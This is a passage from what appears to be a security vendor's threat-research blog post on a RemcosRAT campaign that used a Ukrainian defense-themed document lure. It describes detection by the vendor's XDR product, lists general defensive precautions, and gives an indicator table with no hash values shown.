fig_24Figure 24–Document File with Ukrainianlanguage and Defense theme



Figure 25–Translated word documentFigure 25–Translated word document


Initially, virustotal did not detect any instances of word_update.exe. However, at the same time, Uptycs XDR detected RemcosRAT.


Figure 26–Virustotal detectionFigure 26–Virustotal detection


Uptycs XDR coverage

Uptycs XDR demonstrates robust detection capabilities, featuring built-in YARA support and advanced functionalities for identifying threats such as RemcosRAT. Users can efficiently scan for potential risks, leveraging the contextual detection power of XDR to access crucial details about detected malware. Navigating to the toolkit data section within the detection screen allows users to easily explore comprehensive profiles of identified items.

Additionally, Uptycs excels in addressing cybersecurity threats by providing the capability to decode and decrypt obfuscated PowerShell scripts, expanding its arsenal for thorough threat detection and mitigation. A notable highlight is the detection graph presented on the detection page, offering a dynamic visual representation of process relationships, including interconnected files, sockets, and lateral movements during an incident.Figure 27–Uptycs detectionFigure 27–Uptycs detection



Conclusion and precaution

To defend against malware attacks like the RemcosRAT, it is recommended to:


  • Utilize sophisticated email filtering solutions to autonomously identify and eliminate spam messages prior to reaching users' email inboxes.
  • Refrain from clicking on hyperlinks or opening attachments in emails identified as spam.
  • Deploy network monitoring tools to identify abnormal communication patterns that could signal the presence of remote access tools.
  • Consistently examineand secure system configurations, verifying that superfluous services and startup entries are either disabled or closely monitored.
  • Leverage tools based on behavioral analysis to identify unusual activities that may suggest attempts by RATs to establish persistence orcommunicate with command and control servers.




File Name MD5

Lnkfile













Related hashFile Name
























Read more blogs fromour Threat Research Team to discover the latestthreat intelligence and defensive measures.